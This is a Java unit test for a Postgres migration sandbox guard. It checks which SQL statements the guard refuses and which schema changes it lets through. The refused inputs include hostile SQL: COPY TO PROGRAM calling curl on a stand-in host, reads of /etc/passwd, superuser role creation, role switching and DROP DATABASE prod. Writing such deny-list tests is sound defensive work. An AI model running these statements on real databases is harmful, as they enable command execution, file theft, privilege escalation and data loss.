package dev.schemawarden.analyzers.internal.trace;

import static org.assertj.core.api.Assertions.assertThat;

import dev.schemawarden.analyzers.api.Change;
import dev.schemawarden.analyzers.api.SourceSpan;
import dev.schemawarden.analyzers.api.SqlStatement;
import java.util.Optional;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class PostgresSandboxGuardTest {

  @ParameterizedTest
  @ValueSource(strings = {
      "ALTER SYSTEM SET work_mem = '1GB'",
      "alter  system reset all",
      "COPY orders TO PROGRAM 'curl evil'",
      "COPY orders FROM '/etc/passwd'",
      "CREATE EXTENSION dblink",
      "CREATE EXTENSION IF NOT EXISTS \"adminpack\"",
      "SELECT lo_import('/etc/passwd')",
      "SELECT * FROM dblink('host=x', 'select 1') AS t(a int)",
      "SELECT pg_read_file('/etc/passwd')",
      "CREATE ROLE intruder SUPERUSER",
      "ALTER USER app PASSWORD 'x'",
      "SET ROLE postgres",
      "SET SESSION AUTHORIZATION postgres",
      "LOAD 'auto_explain'",
      "CREATE DATABASE other",
      "DROP DATABASE prod",
      "DO $$ BEGIN EXECUTE 'ALTER SYSTEM SET fsync = off'; END $$",
      "CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$ return 1 $$",
      "CREATE USER MAPPING FOR x SERVER y"
  })
  void refuses_server_level_and_escape_statements(String sql) {
    assertThat(PostgresSandboxGuard.refusal(sql)).as(sql).isPresent();
  }

  @ParameterizedTest
  @ValueSource(strings = {
      "ALTER TABLE orders ADD COLUMN c int",
      "CREATE EXTENSION IF NOT EXISTS pgcrypto",
      "CREATE EXTENSION \"uuid-ossp\"",
      "COPY orders FROM STDIN",
      "-- ALTER SYSTEM in a comment\nCREATE INDEX i ON t (a)"
  })
  void lets_schema_changes_through(String sql) {
    assertThat(PostgresSandboxGuard.refusal(sql)).as(sql).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(strings = {
      "VACUUM orders", "CREATE INDEX CONCURRENTLY i ON t (a)", "DROP INDEX CONCURRENTLY IF EXISTS i",
      "REINDEX INDEX CONCURRENTLY i", "REINDEX SCHEMA public", "ALTER TABLE p DETACH PARTITION c CONCURRENTLY"})
  void text_fallback_knows_what_cannot_run_in_a_transaction(String sql) {
    SqlStatement s = new SqlStatement(0, sql, SourceSpan.ofLine("V1.sql", 1),
        new Change.Unknown("not parsed"), SqlStatement.ParsedBy.NONE, Optional.empty());
    assertThat(PostgresTransactionRules.mustRunOutsideTransaction(s)).as(sql).isTrue();
  }
}
